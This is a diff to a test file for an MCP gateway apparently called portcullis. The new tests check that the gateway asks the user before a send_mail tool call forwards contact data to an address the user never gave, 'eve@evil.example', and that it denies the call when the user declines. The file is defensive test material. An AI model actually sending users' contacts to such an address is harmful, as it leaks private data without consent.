@@ -1,11 +1,22 @@
-import { mkdtempSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { CallToolResult, ContentBlock } from '@modelcontextprotocol/client';
+import { ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
 import { afterAll, afterEach, describe, expect, it, vi } from 'vitest';
 import { runCli } from '../../cli/run-cli.js';
 import { ATTACK } from '../adapters/matrix.js';
-import { connectHttp, connectStdio, everything, GENERATIONS, main, root, serverFile, startHttp } from './connect.js';
+import {
+  connectHttp,
+  connectStdio,
+  everything,
+  GENERATIONS,
+  type Generation,
+  main,
+  root,
+  serverFile,
+  startHttp,
+} from './connect.js';
 
 // The gateway between the official SDK's clients and servers of both generations, each as a process of its own.
 
@@ -270,6 +281,68 @@ describe('the official server "everything"', () => {
       expect(textOf(await through.client.callTool({ name: 'echo', arguments: { message: ATTACK } }))).toContain(
         'denied by portcullis',
       );
+    } finally {
+      await proxy.stop();
+      await server.stop();
+    }
+  });
+});
+
+describe('a question to the person behind the client', () => {
+  const policy = join(folder, 'ask.json');
+  writeFileSync(policy, JSON.stringify({ on: { flow: { suspicious: 'ask', foreign: 'ask' } } }));
+  const able = { elicitation: {} };
+  const asks =
+    'portcullis asks: May send_mail (send) use “eve@evil.example” in to, from the result of get_contacts? The user never gave this.';
+
+  /** Has the client answer what it is asked; what the person reads, and what the calls come to. */
+  async function calls(
+    { client }: Awaited<ReturnType<typeof connectStdio>>,
+    generation: Generation,
+    ...answers: readonly object[]
+  ): Promise<{ readonly asked: readonly string[]; readonly results: readonly string[] }> {
+    const asked: string[] = [];
+    const answer = async ({ params }: { params: { message: string } }): Promise<object> =>
+      answers[asked.push(params.message) - 1] ?? { action: 'cancel' };
+    const method = generation === 'v1' ? ElicitRequestSchema : 'elicitation/create';
+    (client.setRequestHandler as (method: unknown, handler: unknown) => void)(method, answer);
+    await client.callTool({ name: 'get_contacts', arguments: {} });
+    const results: string[] = [];
+    for (let at = 0; at <= answers.length; at += 1)
+      results.push(textOf(await client.callTool({ name: 'send_mail', arguments: { to: 'eve@evil.example' } })));
+    return { asked, results };
+  }
+
+  it.each(GENERATIONS)('is put over stdio by a client of %s, once for each call', async (generation) => {
+    const server = [process.execPath, serverFile, serverOf(generation), 'stdio'];
+    const args = [...proxyArgs(freshPins(), '--policy', policy), '--', ...server];
+    const through = closing(await connectStdio(generation, args, {}, able));
+    const allow = { action: 'accept', content: { allow: true } };
+    const { asked, results } = await calls(through, generation, allow, { action: 'decline' }, allow);
+    const denied = expect.stringMatching(/^\[denied by portcullis/);
+    // Of the newest version no server, and so no gateway, can ask anything.
+    const isAsked = generation !== 'v2, 2026-07-28';
+    const sent = 'sent to eve@evil.example';
+    expect(asked).toEqual(isAsked ? [asks, asks, asks, asks] : []);
+    expect(results).toEqual(isAsked ? [sent, denied, sent, denied] : [denied, denied, denied, denied]);
+    if (!isAsked) return;
+    const unable = closing(await connectStdio(generation, args));
+    await unable.client.callTool({ name: 'get_contacts', arguments: {} });
+    const refused = await unable.client.callTool({ name: 'send_mail', arguments: { to: 'eve@evil.example' } });
+    expect(textOf(refused)).toEqual(denied);
+  });
+
+  it.each([{}, { JSON_RESPONSES: '1' }])('is put over HTTP with the server in %j', async (env) => {
+    const server = await startHttp([serverFile, 'v1', 'http'], env);
+    const args = [...proxyArgs(freshPins(), '--policy', policy), '--url', server.url, '--port', '0'];
+    const proxy = await startHttp(args);
+    try {
+      for (const generation of ['v1', 'v2, 2025-11-25'] as const) {
+        const through = closing(await connectHttp(generation, proxy.url, able));
+        const { asked, results } = await calls(through, generation, { action: 'accept', content: { allow: true } });
+        expect(asked).toEqual([asks, asks]);
+        expect(results).toEqual(['sent to eve@evil.example', expect.stringMatching(/^\[denied by portcullis/)]);
+      }
     } finally {
       await proxy.stop();
       await server.stop();
